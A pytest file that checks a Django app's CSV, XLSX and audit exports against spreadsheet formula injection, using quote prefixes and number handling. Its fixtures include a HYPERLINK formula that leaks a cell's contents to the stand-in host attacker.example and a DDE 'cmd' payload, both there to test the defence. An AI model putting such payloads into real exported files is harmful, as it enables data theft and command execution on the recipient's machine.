"""Downloads never carry a live formula: text a spreadsheet would run, in any cell or column name of any result
shape, gets a leading `'` in CSV and XLSX alike, while numbers (negative ones too) stay numbers. The audit
export follows the same rule."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from jobs.states import JobKind
from tests.results_support import parse_cell, png_base64, succeeded_job_with_result

LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
IMAGE = png_base64()

# Each case: the stored result, the job kind, and the table a download must hold (typed as parse_cell reads a
# CSV cell back: a number is a number, anything else the text it is).
CASES = {
    "records": (
        [
            {LINK: "=1+1", "+cmd": "+1+1", "-col": "-1+1", "@at": "@SUM(1+1)", "n": -3, "x": -0.5, "ok": "a=b"},
            {LINK: "\t=1+1", "+cmd": "\r=1+1", "-col": -12, "@at": None, "n": 4, "x": 2.5, "ok": "-"},
        ],
        JobKind.TABLE_APPLY,
        [
            ["'" + LINK, "'+cmd", "'-col", "'@at", "n", "x", "ok"],
            ["'=1+1", "'+1+1", "'-1+1", "'@SUM(1+1)", -3, -0.5, "a=b"],
            ["'\t=1+1", "'\r=1+1", -12, None, 4, 2.5, "'-"],
        ],
    ),
    "groups": (
        {
            "=evil": {"+A": {"0": "@x", "1": -1.25}, "B": {"0": -7, "1": "=2"}},
            "plain": {"+A": {"0": "ok"}, "B": {"0": 3}},
        },
        JobKind.GROUP_APPLY,
        [["group", "'+A", "B"], ["'=evil", "'@x", -7], ["'=evil", -1.25, "'=2"], ["plain", "ok", 3]],
    ),
    "list": (
        ["=1+1", -2, "@SUM(A1:A9)", -0.75],
        JobKind.INDEX_APPLY,
        [["index", "value"], [1, "'=1+1"], [2, -2], [3, "'@SUM(A1:A9)"], [4, -0.75]],
    ),
    "object": (
        {"=key": "+1+1", "n": -7, "nested": {"-k": ["=A1"]}},
        JobKind.DO_EVAL,
        [["path", "value"], ["/=key", "'+1+1"], ["/n", -7], ["/nested/-k/0", "'=A1"]],
    ),
    "scalar text": (LINK, JobKind.DO_EVAL, [["value"], ["'" + LINK]]),
    "scalar number": (-42.5, JobKind.DO_EVAL, [["value"], [-42.5]]),
    "graphics": (
        [{"IMAGE": IMAGE, "DATA": "=1+1", "ID": -1, LINK: "@x"}],
        JobKind.DO_EVAL,
        [["IMAGE", "DATA", "ID", "'" + LINK], [IMAGE, "'=1+1", -1, "'@x"]],
    ),
    "text": (
        b"=cmd|' /C calc'!A0\n+1+1\nplain line\n-2\n",
        JobKind.DO_EVAL,
        [["line"], ["'=cmd|' /C calc'!A0"], ["'+1+1"], ["plain line"], ["'-2"]],
    ),
}


@pytest.fixture
def signed_in(client, analyst):
    client.force_login(analyst)
    return client


def _download(client, job, fmt: str) -> bytes:
    response = client.get(f"/jobs/{job.uuid}/result.{fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_table(body: bytes) -> list[list]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    return [[parse_cell(cell) for cell in row] for row in rows]


def _xlsx_cells(body: bytes) -> list[list]:
    """Every cell of every sheet, header included, as openpyxl reads it back."""
    workbook = load_workbook(io.BytesIO(body))
    return [list(row) for sheet in workbook.worksheets for row in sheet.iter_rows()]


@pytest.mark.django_db
@pytest.mark.parametrize("case", list(CASES))
def test_a_csv_download_prefixes_text_a_spreadsheet_would_run_and_keeps_numbers(signed_in, analyst, case):
    body, kind, expected = CASES[case]
    job = succeeded_job_with_result(analyst, body, kind=kind)
    assert _csv_table(_download(signed_in, job, "csv")) == expected


@pytest.mark.django_db
@pytest.mark.parametrize("case", list(CASES))
def test_an_xlsx_download_holds_no_formula_and_numbers_stay_numbers(signed_in, analyst, case):
    body, kind, expected = CASES[case]
    job = succeeded_job_with_result(analyst, body, kind=kind)
    cells = _xlsx_cells(_download(signed_in, job, "xlsx"))
    assert [(cell.coordinate, cell.value) for row in cells for cell in row if cell.data_type == "f"] == []
    # XML text keeps a carriage return as a line feed; what matters here is the prefix in front of it.
    readable = [[v.replace("\r", "\n") if isinstance(v, str) else v for v in row] for row in expected]
    assert [[cell.value for cell in row] for row in cells] == readable
    numbers = [cell.value for row in cells for cell in row if cell.data_type == "n" and cell.value is not None]
    assert numbers == [value for row in expected for value in row if isinstance(value, int | float)]


@pytest.mark.django_db
def test_a_negative_number_is_written_without_a_prefix_in_csv(signed_in, analyst):
    job = succeeded_job_with_result(analyst, [{"v": -1}, {"v": "-1"}], kind=JobKind.TABLE_APPLY)
    assert _download(signed_in, job, "csv").decode().splitlines() == ["v", "-1", "'-1"]


@pytest.mark.django_db
@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(1)", "\tx", "\rx"])
def test_the_audit_export_prefixes_the_same_text_as_result_downloads(client, make_user, text):
    from audit.services import audit_record

    admin = make_user("root", is_staff=True, is_superuser=True)
    audit_record(action="submit", actor=admin, target_type="job", target_id=text, details={})
    client.force_login(admin)
    body = b"".join(client.get("/audit/export.csv").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [row["target_id"] for row in rows if row["action"] == "submit"] == ["'" + text]
